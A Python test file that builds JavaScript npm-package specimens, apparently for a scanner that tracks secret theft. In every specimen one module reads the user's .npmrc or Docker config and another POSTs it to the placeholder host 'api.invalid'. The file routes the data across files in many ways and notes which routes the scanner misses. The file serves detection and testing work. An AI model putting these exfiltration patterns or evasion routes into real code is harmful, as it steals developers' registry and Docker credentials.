"""What one file reads another one sends: by every way in which a module can hand things to another one."""

from tests.evasion.specimen import Specimen, npm

_JS_HEAD = "const fs = require('fs'), os = require('os');\n"
_JS_CLIENT = (
    "const https = require('https');\nexports.send = (path, data) => {\n"
    "  const asked = https.request({ host: 'api.invalid', path, method: 'POST' });\n  asked.write(data);\n"
    "  asked.end();\n};\n"
)


def _js(title: str, grab: str, use: str, *, client: str = _JS_CLIENT, missed: str = "", **more: str) -> Specimen:
    """Return a specimen of three files: one reads, one sends, and the entry brings them together."""
    files = {"client": client, "grab": _JS_HEAD + grab, **more}
    lib = {f"lib/{name}.js": text for name, text in files.items()}
    return npm("handed from file to file", title, use, lib, missed=missed)


JAVASCRIPT: tuple[Specimen, ...] = (
    _js(
        "class method",
        "exports.A=class{grab(){return fs.readFileSync(os.homedir()+'/.npmrc','utf8')}};",
        ("const c=require('./lib/client');const {A}=require('./lib/grab');c.send('/',new A().grab());\n"),
    ),
    _js(
        "static method",
        ("exports.A=class{static grab(){return fs.readFileSync(os.homedir()+'/.npmrc','utf8')}};"),
        ("const c=require('./lib/client');const {A}=require('./lib/grab');c.send('/',A.grab());\n"),
    ),
    _js(
        "class default",
        "module.exports=class{grab(){return fs.readFileSync(os.homedir()+'/.npmrc','utf8')}};",
        ("const c=require('./lib/client');const A=require('./lib/grab');c.send('/',new A().grab());\n"),
    ),
    _js(
        "instance property",
        ("exports.A=class{constructor(){this.t=fs.readFileSync(os.homedir()+'/.npmrc','utf8')}};"),
        ("const c=require('./lib/client');const {A}=require('./lib/grab');c.send('/',new A().t);\n"),
    ),
    _js(
        "class field",
        "exports.A=class{t=fs.readFileSync(os.homedir()+'/.npmrc','utf8')};",
        ("const c=require('./lib/client');const {A}=require('./lib/grab');c.send('/',new A().t);\n"),
    ),
    _js(
        "nested object",
        "exports.api={r:{grab(){return fs.readFileSync(os.homedir()+'/.npmrc','utf8')}}};",
        ("const c=require('./lib/client');const {api}=require('./lib/grab');c.send('/',api.r.grab());\n"),
    ),
    _js(
        "instance exported",
        ("class A{grab(){return fs.readFileSync(os.homedir()+'/.npmrc','utf8')}}module.exports=new A();"),
        "const c=require('./lib/client');c.send('/',require('./lib/grab').grab());\n",
    ),
    _js(
        "Object.assign",
        ("Object.assign(exports,{grab(){return fs.readFileSync(os.homedir()+'/.npmrc','utf8')}});"),
        ("const c=require('./lib/client');const {grab}=require('./lib/grab');c.send('/',grab());\n"),
    ),
    _js(
        "Object.assign module.exports",
        ("module.exports=Object.assign({},{grab(){return fs.readFileSync(os.homedir()+'/.npmrc','utf8')}});"),
        ("const c=require('./lib/client');const {grab}=require('./lib/grab');c.send('/',grab());\n"),
    ),
    _js(
        "computed name",
        "exports['gr'+'ab']=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("const c=require('./lib/client');const {grab}=require('./lib/grab');c.send('/',grab());\n"),
    ),
    _js(
        "defineProperty getter",
        ("Object.defineProperty(exports,'grab',{get(){return fs.readFileSync(os.homedir()+'/.npmrc','utf8')}});"),
        ("const c=require('./lib/client');const {grab}=require('./lib/grab');c.send('/',grab);\n"),
    ),
    _js(
        "defineProperty value",
        ("Object.defineProperty(exports,'grab',{value:()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8')});"),
        ("const c=require('./lib/client');const {grab}=require('./lib/grab');c.send('/',grab());\n"),
    ),
    _js(
        "getter in object",
        "module.exports={get grab(){return fs.readFileSync(os.homedir()+'/.npmrc','utf8')}};",
        "const c=require('./lib/client');c.send('/',require('./lib/grab').grab);\n",
    ),
    _js(
        "prototype",
        (
            "function A(){}A.prototype.grab=function(){"
            "return fs.readFileSync(os.homedir()+'/.npmrc','utf8')};module.exports=A;"
        ),
        ("const c=require('./lib/client');const A=require('./lib/grab');c.send('/',new A().grab());\n"),
    ),
    _js(
        "factory",
        "exports.make=()=>({grab(){return fs.readFileSync(os.homedir()+'/.npmrc','utf8')}});",
        ("const c=require('./lib/client');const {make}=require('./lib/grab');c.send('/',make().grab());\n"),
    ),
    _js(
        "factory function",
        "module.exports=()=>()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        "const c=require('./lib/client');c.send('/',require('./lib/grab')()());\n",
    ),
    _js(
        "generator",
        "exports.grab=function*(){yield fs.readFileSync(os.homedir()+'/.npmrc','utf8')};",
        ("const c=require('./lib/client');const {grab}=require('./lib/grab');for(const x of grab())c.send('/',x);\n"),
    ),
    _js(
        "async generator",
        ("exports.grab=async function*(){yield fs.readFileSync(os.homedir()+'/.npmrc','utf8')};"),
        (
            "const c=require('./lib/client');const {grab}=require('./lib/grab');(async()=>{"
            "for await(const x of grab())c.send('/',x)})();\n"
        ),
    ),
    _js(
        "promise then",
        "exports.grab=()=>fs.promises.readFile(os.homedir()+'/.npmrc','utf8');",
        ("const c=require('./lib/client');const {grab}=require('./lib/grab');grab().then(x=>c.send('/',x));\n"),
    ),
    _js(
        "callback of api",
        "exports.grab=cb=>fs.readFile(os.homedir()+'/.npmrc',(e,d)=>cb(d));",
        ("const c=require('./lib/client');const {grab}=require('./lib/grab');grab(d=>c.send('/',d));\n"),
    ),
    _js(
        "pass send itself",
        "exports.grab=cb=>cb('/',fs.readFileSync(os.homedir()+'/.npmrc','utf8'));",
        "const c=require('./lib/client');const {grab}=require('./lib/grab');grab(c.send);\n",
    ),
    _js(
        "pass both to a third",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        (
            "const c=require('./lib/client');const {grab}=require('./lib/grab');"
            "require('./lib/glue').run(grab,c.send);\n"
        ),
        glue="exports.run=(a,b)=>b('/',a());\n",
        missed="a file in which no word of interest stands is not followed",
    ),
    _js(
        "map of functions",
        "exports.m=new Map([['g',()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8')]]);",
        ("const c=require('./lib/client');const {m}=require('./lib/grab');c.send('/',m.get('g')());\n"),
        missed="what a Map holds is not followed",
    ),
    _js(
        "array of functions",
        "exports.m=[()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8')];",
        "const c=require('./lib/client');const {m}=require('./lib/grab');c.send('/',m[0]());\n",
    ),
    _js(
        "table by key",
        "exports.m={g:()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8')};",
        ("const c=require('./lib/client');const {m}=require('./lib/grab');for(const k in m)c.send('/',m[k]());\n"),
    ),
    _js(
        "event emitter",
        (
            "const E=require('events');const b=new E();exports.bus=b;exports.go=()=>b.emit('x',"
            "fs.readFileSync(os.homedir()+'/.npmrc','utf8'));"
        ),
        ("const c=require('./lib/client');const {bus,go}=require('./lib/grab');bus.on('x',d=>c.send('/',d));go();\n"),
        missed="what passes by an event is not followed",
    ),
    _js(
        "event emitter class",
        (
            "const E=require('events');module.exports=class extends E{go(){this.emit('x',"
            "fs.readFileSync(os.homedir()+'/.npmrc','utf8'))}};"
        ),
        (
            "const c=require('./lib/client');const A=require('./lib/grab');const a=new A();"
            "a.on('x',d=>c.send('/',d));a.go();\n"
        ),
        missed="what passes by an event is not followed",
    ),
    _js(
        "global",
        "globalThis.zz=fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        "const c=require('./lib/client');require('./lib/grab');c.send('/',globalThis.zz);\n",
        missed="what passes by a global variable is not followed",
    ),
    _js(
        "global function",
        "globalThis.zz=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        "const c=require('./lib/client');require('./lib/grab');c.send('/',zz());\n",
        missed="what passes by a global variable is not followed",
    ),
    _js(
        "process property",
        "process.zz=fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        "const c=require('./lib/client');require('./lib/grab');c.send('/',process.zz);\n",
        missed="what passes by a global variable is not followed",
    ),
    _js(
        "state object",
        ("exports.s={};exports.load=()=>{exports.s.t=fs.readFileSync(os.homedir()+'/.npmrc','utf8')};"),
        ("const c=require('./lib/client');const m=require('./lib/grab');m.load();c.send('/',m.s.t);\n"),
        missed="what another file keeps is not followed",
    ),
    _js(
        "third holds state",
        "require('./st').t=fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("const c=require('./lib/client');require('./lib/grab');c.send('/',require('./lib/st').t);\n"),
        st="module.exports={};\n",
        missed="what another file keeps is not followed",
    ),
    _js(
        "third is filled by call",
        "require('./st').put(fs.readFileSync(os.homedir()+'/.npmrc','utf8'));",
        ("const c=require('./lib/client');require('./lib/grab');c.send('/',require('./lib/st').get());\n"),
        st="let v;exports.put=x=>{v=x};exports.get=()=>v;\n",
        missed="what another file keeps is not followed",
    ),
    _js(
        "ts getter reexport",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("const c=require('./lib/client');const {grab}=require('./lib/idx');c.send('/',grab());\n"),
        idx=(
            '"use strict";Object.defineProperty(exports,"__esModule",{value:true});'
            'exports.grab=void 0;var grab_1=require("./grab");Object.defineProperty(exports,'
            '"grab",{enumerable:true,get:function(){return grab_1.grab;}});\n'
        ),
    ),
    _js(
        "ts exportStar",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("const c=require('./lib/client');const {grab}=require('./lib/idx');c.send('/',grab());\n"),
        idx=(
            '"use strict";'
            "var __createBinding=(this&&this.__createBinding)||(Object.create?(function(o,m,k,"
            "k2){if(k2===undefined)k2=k;var desc=Object.getOwnPropertyDescriptor(m,k);"
            'if(!desc||("get" in desc?!m.__esModule:desc.writable||desc.configurable)){desc={'
            "enumerable:true,get:function(){return m[k];}};}Object.defineProperty(o,k2,desc);"
            "}):(function(o,m,k,k2){if(k2===undefined)k2=k;o[k2]=m[k];}));"
            "var __exportStar=(this&&this.__exportStar)||function(m,exports){"
            'for(var p in m)if(p!=="default"&&!Object.prototype.hasOwnProperty.call(exports,'
            'p))__createBinding(exports,m,p);};Object.defineProperty(exports,"__esModule",{'
            'value:true});__exportStar(require("./grab"),exports);\n'
        ),
    ),
    _js(
        "babel interop",
        (
            'Object.defineProperty(exports,"__esModule",{value:true});'
            "exports.default=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');"
        ),
        (
            'var _g=_i(require("./lib/grab"));function _i(o){return o&&o.__esModule?o:{'
            "default:o}}const c=require('./lib/client');c.send('/',(0,_g.default)());\n"
        ),
    ),
    _js(
        "esbuild cjs",
        (
            "var __defProp=Object.defineProperty;var __export=(target,all)=>{"
            "for(var name in all)__defProp(target,name,{get:all[name],enumerable:true})};"
            "var __copyProps=(to,from,except,desc)=>{"
            'if(from&&typeof from==="object"||typeof from==="function"){'
            "for(let key of Object.getOwnPropertyNames(from))if(!Object.prototype.hasOwnProperty.call(to,"
            "key)&&key!==except)__defProp(to,key,{get:()=>from[key],enumerable:true})}return to};"
            'var __toCommonJS=(mod)=>__copyProps(__defProp({},"__esModule",{value:true}),mod);'
            "var src_exports={};__export(src_exports,{grab:()=>grab});"
            "module.exports=__toCommonJS(src_exports);function grab(){"
            "return fs.readFileSync(os.homedir()+'/.npmrc','utf8')}"
        ),
        ("const c=require('./lib/client');const {grab}=require('./lib/grab');c.send('/',grab());\n"),
    ),
    _js(
        "module is function",
        "module.exports=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        "const c=require('./lib/client');c.send('/',require('./lib/grab')());\n",
    ),
    _js(
        "namespace dynamic import",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("const c=require('./lib/client');import('./lib/grab.js').then(m=>c.send('/',m.grab()));\n"),
    ),
    _js(
        "require in function",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("function f(){const c=require('./lib/client');c.send('/',require('./lib/grab').grab())}f();\n"),
    ),
    _js(
        "computed require",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("const c=require('./lib/client');const n='gr'+'ab';c.send('/',require('./lib/'+n)[n]());\n"),
    ),
    _js(
        "inherits",
        "exports.B=class{grab(){return fs.readFileSync(os.homedir()+'/.npmrc','utf8')}};",
        (
            "const c=require('./lib/client');const {B}=require('./lib/grab');class D extends B{"
            "}c.send('/',new D().grab());\n"
        ),
    ),
    _js(
        "inherits, super",
        "exports.B=class{grab(){return fs.readFileSync(os.homedir()+'/.npmrc','utf8')}};",
        (
            "const c=require('./lib/client');const {B}=require('./lib/grab');class D extends B{"
            "go(){c.send('/',super.grab())}}new D().go();\n"
        ),
        missed="what ``super`` is is not known",
    ),
    _js(
        "client class",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("const {C}=require('./lib/client');const {grab}=require('./lib/grab');new C().send('/',grab());\n"),
        client=(
            "const https=require('https');exports.C=class{send(p,d){const r=https.request({"
            "host:'api.invalid',path:p,method:'POST'});r.write(d);r.end()}};\n"
        ),
    ),
    _js(
        "client constructor keeps",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("const {C}=require('./lib/client');const {grab}=require('./lib/grab');new C(grab()).go();\n"),
        client=(
            "const https=require('https');exports.C=class{constructor(d){this.d=d}go(){"
            "const r=https.request({host:'api.invalid',method:'POST'});r.write(this.d);r.end()}};"
            "\n"
        ),
    ),
    _js(
        "client set later",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("const {C}=require('./lib/client');const {grab}=require('./lib/grab');const x=new C();x.d=grab();x.go();\n"),
        client=(
            "const https=require('https');exports.C=class{go(){const r=https.request({"
            "host:'api.invalid',method:'POST'});r.write(this.d);r.end()}};\n"
        ),
        missed="what another file keeps is not followed",
    ),
    _js(
        "options object",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("const c=require('./lib/client');const {grab}=require('./lib/grab');c.send({p:'/',d:grab()});\n"),
        client=(
            "const https=require('https');\n"
            "exports.send=({p,d})=>{const r=https.request({host:'api.invalid',path:p,"
            "method:'POST'});r.write(d);r.end()};\n"
        ),
    ),
    _js(
        "rest args",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("const c=require('./lib/client');const {grab}=require('./lib/grab');c.send(1,2,3,4,5,grab());\n"),
        client=(
            "const https=require('https');\n"
            "exports.send=(...a)=>{const r=https.request({host:'api.invalid',method:'POST'});"
            "r.write(a[5]);r.end()};\n"
        ),
    ),
    _js(
        "sixth arg",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("const c=require('./lib/client');const {grab}=require('./lib/grab');c.send(1,2,3,4,5,grab());\n"),
        client=(
            "const https=require('https');\n"
            "exports.send=(a,b,c,d,e,f)=>{const r=https.request({host:'api.invalid',"
            "method:'POST'});r.write(f);r.end()};\n"
        ),
    ),
    _js(
        "arguments",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("const c=require('./lib/client');const {grab}=require('./lib/grab');c.send(1,2,3,4,5,grab());\n"),
        client=(
            "const https=require('https');\n"
            "exports.send=function(){const r=https.request({host:'api.invalid',method:'POST'});"
            "r.write(arguments[5]);r.end()};\n"
        ),
    ),
    _js(
        "bind",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        (
            "const c=require('./lib/client');const {grab}=require('./lib/grab');"
            "const s=c.send.bind(null,'/');s(grab());\n"
        ),
    ),
    _js(
        "apply",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("const c=require('./lib/client');const {grab}=require('./lib/grab');c.send.apply(null,['/',grab()]);\n"),
    ),
    _js(
        "setTimeout",
        "exports.grab=()=>fs.readFileSync(os.homedir()+'/.npmrc','utf8');",
        ("const c=require('./lib/client');const {grab}=require('./lib/grab');setTimeout(()=>c.send('/',grab()),10);\n"),
    ),
    _js(
        "JSON import",
        "module.exports=JSON.parse(fs.readFileSync(os.homedir()+'/.docker/config.json'));",
        "const c=require('./lib/client');c.send('/',JSON.stringify(require('./lib/grab')));\n",
    ),
    _js(
        "stream pipe",
        "exports.s=()=>fs.createReadStream(os.homedir()+'/.npmrc');",
        "const {s}=require('./lib/grab'),{out}=require('./lib/client');s().pipe(out());\n",
        client=("const https=require('https');exports.out=()=>https.request({host:'api.invalid',method:'POST'});\n"),
        missed="what another file keeps is not followed",
    ),
)
